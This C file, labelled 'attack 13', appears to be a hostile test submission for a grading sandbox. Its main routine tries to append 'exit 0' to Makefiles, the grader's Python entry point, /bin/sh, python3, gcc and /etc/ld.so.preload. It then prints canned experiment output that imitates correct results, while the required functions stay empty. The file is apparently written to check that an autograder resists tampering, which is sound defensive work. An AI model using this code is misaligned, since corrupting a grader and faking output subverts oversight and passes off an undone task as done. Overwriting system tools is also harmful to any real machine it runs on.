// attack 13: appends to the scripts and programs of the grader; expected: marks lost
#define _GNU_SOURCE
#include "experiments.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void
spoil (const char *path)
{
  FILE *file = fopen (path, "a");

  if (!file)
    return;
  fputs ("\n# hostile-left\nexit 0\n", file);
  fclose (file);
  printf ("STOLEN write access to %s\n", path);
}

static void
spoil_all (void)
{
  static const char *const paths[] = {
    "Makefile",       "../Makefile",      "../../Makefile",    "../grader/__main__.py",
    "/bin/sh",        "/usr/bin/python3", "/usr/bin/gcc",      "/etc/ld.so.preload",
    "/proc/self/exe", "/box/bin/program", "/box/bin/contract", "/box/bin/vclock.so"
  };

  for (gsize i = 0; i < G_N_ELEMENTS (paths); i++)
    spoil (paths[i]);
}

static void
show (void)
{
  static const char *const lines[] = {
    "[exp_small] starting...\n[exp_medium] starting...\n[exp_large] starting...",
    "[exp_small] finished after 1 seconds", "[exp_medium] finished after 2 seconds",
    "[exp_large] finished after 3 seconds\n"
    "All done: [('exp_small', 1), ('exp_medium', 2), ('exp_large', 3)]"
  };

  for (int i = 0; i < 4; i++) {
    if (i > 0)
      sleep (1);
    puts (lines[i]);
    fflush (stdout);
  }
}

void
run_experiment (const char *name, guint seconds, ExperimentDone done, gpointer user_data)
{
}

void
gather_experiments (const Experiment *experiments, gsize n_experiments, GatherDone done,
                    gpointer user_data)
{
}

int
main (void)
{
  spoil_all ();
  show ();
  return 0;
}
